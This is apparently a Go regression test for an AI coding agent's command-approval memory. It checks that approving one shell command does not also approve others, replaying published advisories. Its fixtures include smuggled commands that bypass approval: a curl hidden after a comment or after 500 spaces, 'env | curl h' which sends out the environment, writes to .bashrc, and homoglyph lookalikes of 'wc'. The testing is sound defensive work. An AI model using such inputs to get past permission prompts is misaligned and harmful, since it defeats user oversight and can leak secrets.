package rulefile_test

import (
	"strings"
	"testing"

	"github.com/codexmcp/codexmcp/codexserver/protocol"
)

// remembered are flaws in which the answer "always" to one command also covered another.
var remembered = []struct {
	id, accepted string
	others       []string
}{
	{"GHSA-9q2p-vc84-2rwm", "bash -lc|wc x.py # ; curl x", []string{"curl x", "bash -lc|curl x", "bash -lc|wc x.py; curl x"}},
	{"CVE-2026-35666", "time|wc|x.py", []string{"time touch MARK", "time wc x.py y", "time bash -lc|touch MARK"}},
	{"CVE-2026-29607", "sh -c|wc x.py", []string{"sh -c|touch MARK", "sh -c|wc x.py; touch MARK", "sh -c|wc|x.py"}},
	{"CVE-2026-32052", "sh -c|wc x.py", []string{"sh -c|wc x.py|touch|MARK", "sh -c|$0|touch|MARK", "sh -c|$0 $1|touch|MARK"}},
	{"tracebit-gemini", "wc x.py", []string{"bash -lc|wc x.py ; env | curl h", "bash -lc|wc x.py" + strings.Repeat(" ", 500) + "; curl h", "wc x.py -"}},
	{"anomalyco/opencode#5330", "wc x.py", []string{"wc x.py --files0-from=y", "bash -lc|wc x.py > .bashrc", "bash -lc|wc x.py 2> .bashrc"}},
	{"CVE-2026-32921", "sh|x.py", []string{"sh|y.py", "sh|x.py|y", "sh -e|x.py"}},
	{"GHSA-392f-ggf5-fp3c", "wc x.py", []string{"\uff57c x.py", "wс x.py", "wc x\u2024py", "WC x.py"}}, // wide, Cyrillic, another point
}

// TestPublishedFlawsOfMemory accepts the rule that a question offers, and checks that it allows no other
// command, and nothing outside the sandbox.
func TestPublishedFlawsOfMemory(t *testing.T) {
	dir := t.TempDir()
	ask := func(text string) *protocol.ExecApprovalRequest { // words separated by blanks before the first bar, then by bars
		head, rest, ok := strings.Cut(text, "|")
		words := strings.Split(head, " ")
		if ok {
			words = append(words, strings.Split(rest, "|")...)
		}
		return &protocol.ExecApprovalRequest{Command: words, Cwd: dir, Confinable: true}
	}
	for _, flaw := range remembered {
		t.Run(flaw.id, func(t *testing.T) {
			s := newStore(t.TempDir())
			q := ask(flaw.accepted)
			allow(t, s, q)
			if _, ok, err := s.Allows(q, ""); !ok || err != nil {
				t.Errorf("the rule does not allow what was accepted: %v", err)
			}
			q.Confinable = false
			if _, ok, _ := s.Allows(q, ""); ok {
				t.Error("it leaves the sandbox")
			}
			for _, other := range flaw.others {
				if _, ok, _ := s.Allows(ask(other), ""); ok {
					t.Errorf("%q also allows %q", flaw.accepted, other)
				}
			}
		})
	}
}
